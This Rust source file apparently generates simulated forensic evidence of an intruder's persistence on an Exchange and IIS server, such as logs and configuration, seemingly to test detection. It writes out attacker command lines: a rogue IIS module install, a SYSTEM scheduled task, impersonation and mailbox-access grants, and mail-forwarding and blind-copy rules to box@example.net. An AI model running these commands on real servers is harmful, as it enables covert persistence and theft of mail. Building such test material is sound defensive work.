//! What an intruder leaves beside a web shell: each in the log that tells of its making, and in the state where it is kept.

use super::chain::URL;
use super::{AGENT, INTRUDER};
use crate::calendar::{MINUTE, SECOND};
use crate::configuration::{self, Additions};
use crate::logs::directory::{self, Exported};
use crate::logs::events::{self, Event, Process};
use crate::logs::iis::{self, Request};
use crate::registry;
use crate::served;
use crate::server::Server;
use afterpatch_model::Timestamp;

const W3WP: &str = r"C:\Windows\System32\inetsrv\w3wp.exe";
const SECURITY: &str = "Microsoft-Windows-Security-Auditing";

/// What is planted in the web server.
pub(crate) const IN_IIS: Additions = Additions {
    modules: &[
        ("HttpCacheModule2", r"C:\Windows\Temp\cache.dll"),
        ("HttpLogModule", r"%windir%\System32\inetsrv\httplog.dll"),
    ],
    filters: &[("Status", r"C:\Windows\Temp\status.dll")],
    handlers: &[("Pictures", "*.png", "System.Web.UI.PageHandlerFactory")],
    folders: &[("/aspnet", r"C:\ProgramData\COM1\q")],
    rewriting: &[("Static", "^a\\.gif$", r#"<action type="Rewrite" url="http://127.0.0.1:8080/{R:0}" />"#)],
    ..Additions::NONE
};

/// What is planted in Exchange's own configuration.
pub(crate) const IN_EXCHANGE: Additions = Additions {
    agents: &[("Header Agent", "Header.AgentFactory", r"C:\Windows\Temp\header.dll")],
    ..Additions::NONE
};

/// What is planted in Windows.
pub(crate) const IN_WINDOWS: Additions =
    Additions { tasks: &[("Winnet", r"cmd.exe /c C:\Windows\Temp\xx.bat")], ..Additions::NONE };

/// What is planted among the keys: the one that every server had until February 2020, which anybody can read.
pub(crate) const IN_KEYS: Additions =
    Additions { machine_key: Some("CB2721ABDAF8E9DC516D621D8B8BF13A2C9E8689A25303BF"), ..Additions::NONE };

/// What is planted where several servers get a key that the intruder has.
pub(crate) const OF_SEVERAL: Additions =
    Additions { machine_key: Some("5A6978877A6B5C4D3E2F10213243546576879A8B7C6D5E4F"), ..Additions::NONE };

/// The right to be anybody, for an account of one's own.
const IMPERSONATION: directory::Assignment =
    ("Sync", "ApplicationImpersonation", "CN=svc-sync,CN=Users,DC=example,DC=org");

/// Gives several servers one key of the intruder's own; a shadow copy has the key from before.
pub(crate) fn plant_one_key(server: &mut Server, time: Timestamp) {
    configuration::write_shadow_copy(server, time.plus(-2 * Timestamp::DAY));
    configuration::write(server, time, &OF_SEVERAL);
}

/// Changes a page of Exchange's, and what lies in the directory: the address that the chain set, and who may be anybody.
pub(crate) fn change_what_is_there(server: &mut Server, time: Timestamp, set: Timestamp) {
    served::change_page(server, time, "errorFE.aspx");
    let exported = Exported { oab_url: URL, changed: set, assignments: &[(IMPERSONATION, time)] };
    directory::export(server, time.plus(3 * Timestamp::DAY), &exported);
}

/// Puts pages where those of a build lie that no list knows: one anew, one in the place of Exchange's.
pub(crate) fn plant_among_later_pages(server: &mut Server, time: Timestamp) {
    served::add_page(server, time, "Status.aspx");
    served::change_page(server, time, "signout.aspx");
}

/// Gives the control panel a key that anybody has, and a program in the cloud's name a credential.
pub(crate) fn plant_keys(server: &mut Server, time: Timestamp) {
    let parameters = "-Name \"Sync service\" -ApplicationIdentifier \"d0f1e2c3-0000-4000-8000-0000000000aa\" -Enabled \"True\"";
    events::log_cmdlet(server, time, "New-PartnerApplication", parameters);
    configuration::write(server, time.plus(MINUTE), &IN_KEYS);
}

/// Plants modules, a handler, a folder and a rewriting rule; a module by a command of the web server's.
pub(crate) fn plant_in_iis(server: &mut Server, time: Timestamp) {
    run(
        server,
        time,
        "inetsrv\\appcmd.exe",
        "appcmd.exe install module /name:HttpCacheModule2 /image:C:\\Windows\\Temp\\cache.dll",
    );
    configuration::write(server, time.plus(MINUTE), &IN_IIS);
}

/// Plants an agent in mail transport, rights on all mailboxes, on one and over the organisation, a rule of a mailbox and one of
/// transport, and changes the script of the logon page.
pub(crate) fn plant_in_exchange(server: &mut Server, time: Timestamp) {
    for (step, (cmdlet, parameters)) in (0_i64..).zip(CMDLETS) {
        events::log_cmdlet(server, time.plus(step * MINUTE), cmdlet, parameters);
    }
    configuration::write(server, time, &IN_EXCHANGE);
    served::write_logon_script(server, time.plus(8 * MINUTE), true);
}

const CMDLETS: &[(&str, &str)] = &[
    (
        "Install-TransportAgent",
        "-Name \"Header Agent\" -TransportAgentFactory \"Header.AgentFactory\" -AssemblyPath \"C:\\Windows\\Temp\\header.dll\"",
    ),
    ("Enable-TransportAgent", "-Identity \"Header Agent\""),
    ("New-ManagementRoleAssignment", "-Name \"Sync\" -Role \"ApplicationImpersonation\" -User \"svc-sync\""),
    ("Add-RoleGroupMember", "-Identity \"Organization Management\" -Member \"helpdesk2\""),
    ("Add-MailboxPermission", "-Identity \"ceo\" -User \"svc-sync\" -AccessRights \"FullAccess\""),
    (
        "New-InboxRule",
        "-Mailbox \"a.tanaka\" -Name \".\" -ForwardTo \"box@example.net\" -DeleteMessage \"True\"",
    ),
    ("New-TransportRule", "-Name \"Backup copy\" -BlindCopyTo \"box@example.net\" -From \"c.osei\""),
];

/// Plants a task, a service, a subscription, an account and a tool for control from afar.
pub(crate) fn plant_in_windows(server: &mut Server, time: Timestamp) {
    run(
        server,
        time,
        "schtasks.exe",
        "schtasks /create /sc minute /mo 45 /tn Winnet /tr \"cmd.exe /c C:\\Windows\\Temp\\xx.bat\" /ru system",
    );
    events::log_service(server, time.plus(MINUTE), "cw", r"C:\Users\Public\cw.exe");
    events::log_service(
        server,
        time.plus(2 * MINUTE),
        "AnyDesk",
        r#""C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service"#,
    );
    let consumer = [
        ("EventType", "WmiConsumerEvent"),
        ("Name", "Sync"),
        ("Type", "Command Line"),
        ("Destination", r"cmd /c C:\Windows\Temp\xx.bat"),
    ];
    log_event(server, time.plus(3 * MINUTE), (events::SYSMON, "Microsoft-Windows-Sysmon", 20), &consumer);
    let maker = format!("{}$", server.plan.name);
    let account = [("TargetUserName", "helpdesk2"), ("SubjectUserName", maker.as_str())];
    log_event(server, time.plus(4 * MINUTE), ("Security", SECURITY, 4720), &account);
    configuration::write(server, time, &IN_WINDOWS);
}

/// Plants what the registry starts, and a library that is told of every password. No log tells of it.
pub(crate) fn plant_in_registry(server: &mut Server, time: Timestamp) {
    registry::write(server, time, registry::PLANTED);
}

/// Lays a page for administrators where a web shell would lie, and asks for it.
pub(crate) fn plant_a_tool(server: &mut Server, time: Timestamp) {
    let path = r"C:\inetpub\wwwroot\aspnet_client\list.aspx";
    served::write_folder_list(server, time, path);
    events::log_created(server, time, W3WP, "5124", path);
    for minute in 1..=3 {
        let request = Request {
            method: "GET",
            stem: "/aspnet_client/list.aspx",
            query: "folder=inert",
            client: INTRUDER,
            agent: AGENT,
            status: 200,
            taken_ms: 43,
            ..Request::default()
        };
        iis::log(server, time.plus(minute * MINUTE), &request);
    }
}

fn log_event(
    server: &mut Server,
    time: Timestamp,
    (channel, source, id): (&str, &str, u32),
    fields: &[(&str, &str)],
) {
    events::log(server, time, &Event { channel, source, id, level: 4, message: "", fields });
}

/// The web server starts a program, as it does for whoever commands it.
fn run(server: &mut Server, time: Timestamp, program: &str, command_line: &str) {
    let process = Process {
        image: &format!(r"C:\Windows\System32\{program}"),
        command_line,
        parent_image: W3WP,
        parent_command_line: "w3wp.exe -ap \"MSExchangeOWAAppPool\"",
        user: r"NT AUTHORITY\SYSTEM",
    };
    events::log_process(server, time.plus(SECOND), &process);
}
